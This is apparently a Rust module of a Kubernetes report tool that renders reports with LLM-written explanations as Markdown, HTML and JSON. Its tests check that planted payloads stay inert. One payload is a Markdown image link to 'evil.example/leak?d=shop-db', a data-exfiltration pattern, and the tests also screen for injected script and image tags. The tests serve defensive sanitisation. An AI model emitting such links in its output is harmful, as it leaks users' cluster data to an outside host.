//! The report views: Markdown and HTML, both made from the same [`ReportDocument`] (the JSON report is the
//! document itself).

mod chart;
mod html;
pub mod markdown;
mod problems;
pub mod text;

use crate::document::ReportDocument;

/// The three renderings of one report.
pub struct Rendered {
    pub markdown: String,
    pub html: String,
    pub json: String,
}

pub fn render(doc: &ReportDocument) -> Result<Rendered, serde_json::Error> {
    Ok(Rendered {
        markdown: markdown::render(doc),
        html: html::render(doc),
        json: serde_json::to_string_pretty(doc)? + "\n",
    })
}

#[cfg(test)]
mod tests {
    use mekhanikube_analyzers::Finding;

    use super::*;
    use crate::document::{AnalysisDocument, Diff, HistoryInfo, RunSummary, ScopeInfo, Source};

    /// The report of a first run: every finding new, a trend of one.
    fn first_report(analysis: AnalysisDocument) -> ReportDocument {
        let report = "report-20261123T140501Z".to_string();
        let this = RunSummary {
            report: report.clone(),
            generated_at: analysis.generated_at.clone(),
            summary: analysis.summary.clone(),
        };
        ReportDocument {
            api_version: crate::document::API_VERSION.into(),
            kind: "Report".into(),
            report,
            generated_at: analysis.generated_at.clone(),
            history: HistoryInfo { key: "0123456789abcdef".into(), label: "test".into() },
            diff: Diff { new: analysis.findings.clone(), ..Diff::default() },
            analysis,
            trend: vec![this],
        }
    }

    fn finding(name: &str, message: &str) -> Finding {
        crate::test_support::pod_finding(Some("shop"), name, message)
    }

    /// An explanation entry of a crash-looping pod problem, with `fields` set on top.
    fn entry(fields: serde_json::Value) -> crate::document::ExplanationEntry {
        let mut value = serde_json::json!({"problem": "0123456789ab", "code": "pod-crash-loop", "severity": "high",
            "ownerKind": "Deployment", "status": "explained"});
        value.as_object_mut().unwrap().extend(fields.as_object().unwrap().clone());
        serde_json::from_value(value).expect("a valid explanation entry")
    }

    /// Explanations from src/llm appear in both views, escaped. Set MEKHANIKUBE_DUMP_REPORT=DIR to look at them.
    #[test]
    fn explanations_are_rendered_when_present() {
        let source =
            Source { mode: "cluster".into(), server: Some("https://10.0.0.1:6443".into()), ..Source::default() };
        let findings = vec![finding("api-1", "crash <b>looping</b>")];
        let mut analysis = AnalysisDocument::new(source, ScopeInfo::default(), findings.clone(), Vec::new());
        analysis.explanations = Some(vec![entry(serde_json::json!({
            "pattern": "container <name> is crash-looping",
            "objects": ["shop/Pod/api-1"],
            "text": "ignored when structured",
            "explanation": {"cause": "The app exits with 1 at start: a <missing> setting.", "impact": "No replica serves.",
                            "steps": ["kubectl logs api-1 --previous", "Set DATABASE_URL"], "parsed": true}
        }))]);
        let doc = first_report(analysis);
        let r = render(&doc).unwrap();
        assert!(r.html.contains(r#"<section id="explanations">"#));
        assert!(r.html.contains("a &lt;missing&gt; setting.") && !r.html.contains("<missing>"));
        assert!(r.html.replace("<wbr>", "").contains("Affects: shop/Pod/api-1"));
        // The heading is the root finding's own message, never the grouping pattern with its placeholders.
        let heading = &r.html[r.html.find("<h3>").unwrap()..r.html.find("</h3>").unwrap()];
        assert!(heading.contains("api-") && !heading.contains("&lt;name&gt;"), "{heading}");
        assert!(!r.markdown.contains("<name>") && !r.markdown.contains("\\<name\\>"), "{}", r.markdown);
        assert!(r.markdown.contains("## Explanations") && r.markdown.contains("1. kubectl logs api-1 --previous"));
        assert!(r.markdown.contains("crash \\<b\\>looping\\</b\\>"), "cluster text is escaped in Markdown");
        if let Some(dir) = std::env::var_os("MEKHANIKUBE_DUMP_REPORT") {
            std::fs::write(std::path::Path::new(&dir).join("explained.html"), &r.html).unwrap();
            std::fs::write(std::path::Path::new(&dir).join("explained.md"), &r.markdown).unwrap();
        }
    }

    /// Injection payloads in every kind of cluster text (object and owner names, message, container message,
    /// event, skipped kind) and in the model's answers, structured or not: the Markdown has no live link, image
    /// or HTML (checked with a real Markdown parser) and the HTML none of the planted elements.
    #[test]
    fn planted_links_and_markup_stay_inert_in_every_view() {
        use mekhanikube_analyzers::{EventSummary, Evidence, ObjectRef};

        use super::markdown::tests::{PAYLOADS, assert_inert};

        let mut findings = Vec::new();
        for (i, payload) in PAYLOADS.iter().enumerate() {
            let mut f = finding(&format!("api-{i}{payload}"), &format!("crash {payload}"));
            f.parent = Some(ObjectRef {
                api_version: "apps/v1".into(),
                kind: "Deployment".into(),
                namespace: Some(format!("shop{payload}")),
                name: payload.to_string(),
                uid: None,
            });
            f.evidence = vec![
                Evidence::ContainerState {
                    container: "app".into(),
                    init: false,
                    state: "waiting".into(),
                    reason: Some(payload.to_string()),
                    message: Some(payload.to_string()),
                    exit_code: None,
                    restart_count: 3,
                },
                Evidence::Event(EventSummary {
                    event_type: "Warning".into(),
                    reason: "BackOff".into(),
                    message: payload.to_string(),
                    count: 2,
                    last_time: None,
                }),
            ];
            findings.push(f);
        }
        let all = PAYLOADS.join("\n");
        let source = Source { mode: "snapshot".into(), snapshot: Some(PAYLOADS[0].into()), ..Source::default() };
        let mut analysis = AnalysisDocument::new(source, ScopeInfo::default(), findings.clone(), Vec::new());
        analysis.skipped = vec![mekhanikube_analyzers::Skipped { kind: PAYLOADS[2].into(), reason: all.clone() }];
        let objects: Vec<String> = findings.iter().map(|f| f.object.display()).collect();
        analysis.explanations = Some(vec![
            entry(
                serde_json::json!({"pattern": PAYLOADS[0], "objects": [PAYLOADS[1]], "text": format!("Cause: {all}")}),
            ),
            entry(serde_json::json!({"pattern": "p", "objects": objects, "text": "",
                "explanation": {"cause": all, "impact": PAYLOADS[0], "steps": PAYLOADS, "parsed": true},
                "error": PAYLOADS[3]})),
        ]);
        let doc = first_report(analysis);
        let r = render(&doc).unwrap();
        assert_inert(&r.markdown);
        assert!(r.markdown.contains("![x](http://evil.example/leak?d=shop-db)"), "the answer is shown verbatim");
        assert!(r.markdown.contains("crash \\!\\[x\\](http\\://evil.example/leak?d=shop-db)"), "{}", r.markdown);
        for planted in ["<img", "<script", "<http://"] {
            assert!(!r.html.contains(planted), "{planted} in the HTML");
        }
    }
}
